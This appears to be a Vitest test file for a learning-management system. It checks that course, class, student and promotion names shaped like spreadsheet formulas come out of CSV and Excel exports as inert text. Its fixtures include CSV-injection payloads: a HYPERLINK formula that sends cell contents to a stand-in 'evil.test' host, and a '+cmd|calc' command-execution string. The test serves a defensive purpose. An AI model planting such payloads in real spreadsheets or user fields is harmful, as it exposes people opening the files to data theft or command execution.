import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { API_PREFIX } from '../app.js';
import { payments, promotionCodes } from '../db/schema.js';
import type { UserRow } from '../http/auth.js';
import { STATISTICS_FIGURES } from '@lms/domain';
import { fixClock } from '../test/clock.js';
import { createTestContext, type TestContext } from '../test/context.js';
import {
  buildAdmin,
  buildAssignment,
  buildAttendance,
  buildClass,
  buildCourse,
  buildExercise,
  buildLesson,
  buildStudent,
  buildTeacher,
  buildUserExam,
  enrol,
} from '../test/factories.js';

fixClock('2026-03-31T12:00:00+07:00');

/**
 * Spreadsheet formulas in exports (issue 27 item 3): names a user chose (a course, a class, a marker, a
 * promotion, a question) that look like formulas come out of every file export as text: a quote before them
 * in a CSV (OWASP's rule), a string cell in a workbook. The list of export routes is read from the OpenAPI
 * document, so a new export fails here until it is checked too.
 */
const COURSE = '=HYPERLINK("http://evil.test/?"&A1,"open")';
const CLASS = '+SUM(1,2)';
const MARKER = '-2+3';
const MARKER_EMAIL = '@marker.test';
const PROMOTION = '@SUM(A1:A9)';
const QUESTION = '=1+1';
const STUDENT = '=HYPERLINK("http://evil.test/","student")';
const ASSIGNMENT = '+cmd|calc';
const FORMULA_START = /^[=+\-@\t\r]/;
const NUMBER = /^-?\d+(\.\d+)?$/;
const Q1 = 'from=2026-01-01&to=2026-03-31';

/** The export routes and how each is called (every format each takes). */
const EXPORTS: Record<string, string[]> = {
  '/users/statistics/export': STATISTICS_FIGURES.flatMap((figure) =>
    ['csv', 'xlsx'].map((format) => `${Q1}&figure=${figure}&format=${format}`),
  ),
  '/import-data/template': ['format=csv', 'format=xlsx'],
  '/users/import/template': ['format=csv', 'format=xlsx'],
  '/question/export': ['format=xlsx', 'format=gift'],
  '/class/{id}/gradebook/export': ['format=csv', 'format=xlsx'],
  '/class/{id}/attendance/export': ['format=csv', 'format=xlsx'],
};
/** Where each class export shows a name chosen by a user (a student's, an assignment's). */
const CLASS_NAMES: Partial<Record<string, string[]>> = {
  '/class/{id}/gradebook/export': [STUDENT],
  '/class/{id}/attendance/export': [STUDENT],
};
/** Where each figure shows a name chosen by a user. */
const NAMES: Partial<Record<string, string[]>> = {
  students_by_status: [COURSE],
  attendance_by_class: [CLASS],
  pass_rates: [CLASS],
  marking_backlog: [MARKER, MARKER_EMAIL],
  promotion_usage: [PROMOTION],
};

let t: TestContext;
let admin: UserRow;
let classId: number;

beforeAll(async () => {
  t = await createTestContext();
  const db = t.db;
  admin = await buildAdmin(db);
  const marker = await buildTeacher(db, { name: MARKER, email: MARKER_EMAIL });
  const course = await buildCourse(db, { name: COURSE });
  const cls = await buildClass(
    db,
    { name: CLASS, courseId: course.id, startDate: '2026-01-05', endDate: '2026-06-30' },
    { teachers: [marker] },
  );
  classId = cls.id;
  const student = await buildStudent(db, { name: STUDENT });
  const other = await buildStudent(db);
  await enrol(db, cls.id, student.id, 'active');
  await enrol(db, cls.id, other.id, 'active');
  const lesson = await buildLesson(db, cls.id, { studyDate: '2026-02-10' });
  await buildAttendance(db, lesson.id, student.id, { status: 'present' });
  const exercise = await buildExercise(db);
  const work = await buildAssignment(db, cls.id, exercise.id, {
    kind: 'test',
    maxScore: 10,
    title: ASSIGNMENT,
  });
  const at = new Date('2026-02-12T09:00:00Z');
  await buildUserExam(db, work.id, student.id, { status: 'pass', score: 9, submittedAt: at });
  await buildUserExam(db, work.id, other.id, { status: 'waiting_score', submittedAt: at });
  const [code] = await db
    .insert(promotionCodes)
    .values({
      title: PROMOTION,
      code: 'FORMULA1',
      discountPercent: 10,
      expiresAt: new Date('2026-12-31T00:00:00Z'),
    })
    .returning({ id: promotionCodes.id });
  await db.insert(payments).values({
    invoice: 'INV-FORMULA-1',
    candidateId: student.id,
    status: 'paid',
    unitPrice: 4_750_000,
    discount: 475_000,
    amount: 4_275_000,
    examType: 'IELTS',
    promotionCodeId: code!.id,
    createdAt: new Date('2026-02-01T03:00:00Z'),
    paidAt: new Date('2026-02-01T04:00:00Z'),
  });
  const question = await t.api(admin, {
    method: 'POST',
    url: 'question/',
    payload: {
      title: QUESTION,
      question_type: 'writing',
      parts: [{ content: { prompt: '-Write about @home', minWords: 50 }, answer: { sample: '' }, score: 9 }],
    },
  });
  expect(question.status, JSON.stringify(question.body)).toBe(201);
});
afterAll(() => t.close());

async function download(path: string, query: string) {
  const res = await t.app.inject({
    method: 'GET',
    url: `${API_PREFIX}${path.replace('{id}', String(classId))}?${query}`,
    headers: { authorization: `Bearer ${await t.tokenFor(admin)}`, 'accept-language': 'en' },
  });
  expect(res.statusCode, `${path}?${query}: ${res.body.slice(0, 200)}`).toBe(200);
  return { type: String(res.headers['content-type']), raw: res.rawPayload, text: res.body };
}

/** Every cell of a CSV, or of every sheet of a workbook (failing on any formula cell). */
async function cellsOf(file: { type: string; raw: Buffer; text: string }, what: string): Promise<string[]> {
  if (file.type.startsWith('text/csv')) return (parse(file.text.replace(/^\uFEFF/, '')) as string[][]).flat();
  const book = new ExcelJS.Workbook();
  await book.xlsx.load(file.raw as unknown as ArrayBuffer);
  const cells: string[] = [];
  for (const sheet of book.worksheets) {
    sheet.eachRow((row) =>
      row.eachCell((cell) => {
        expect(cell.type, `${what}: ${cell.address}`).not.toBe(ExcelJS.ValueType.Formula);
        expect(cell.formula, what).toBeUndefined();
        cells.push(String(cell.value));
      }),
    );
  }
  return cells;
}

describe('file exports', () => {
  it('are the routes this test checks', () => {
    const doc = t.app.swagger() as {
      paths: Record<string, Record<string, { parameters?: { in: string; name: string; schema?: any }[] }>>;
    };
    const found = Object.entries(doc.paths)
      .filter(([, methods]) =>
        (methods.get?.parameters ?? []).some(
          (p) =>
            p.in === 'query' &&
            p.name === 'format' &&
            (p.schema?.enum ?? []).some((f: string) => ['csv', 'xlsx'].includes(f)),
        ),
      )
      .map(([path]) => path.replace(API_PREFIX, ''));
    expect(found.sort()).toEqual(Object.keys(EXPORTS).sort());
  });

  it('write names that look like formulas as text, in CSV and Excel alike', async () => {
    for (const [path, queries] of Object.entries(EXPORTS)) {
      for (const query of queries) {
        const what = `${path}?${query}`;
        const file = await download(path, query);
        if (file.type.startsWith('text/plain')) continue; // GIFT: no spreadsheet reads it
        const cells = await cellsOf(file, what);
        const csv = file.type.startsWith('text/csv');
        if (csv) {
          // No text cell a spreadsheet would run; numbers (a negative one included) are numbers.
          for (const cell of cells) {
            if (FORMULA_START.test(cell)) expect(cell, what).toMatch(NUMBER);
          }
        }
        const figure = /figure=(\w+)/.exec(query)?.[1];
        const names =
          path === '/question/export' ? [QUESTION] : (CLASS_NAMES[path] ?? NAMES[figure ?? ''] ?? []);
        for (const name of names) expect(cells, what).toContain(csv ? `'${name}` : name);
      }
    }
  });
});
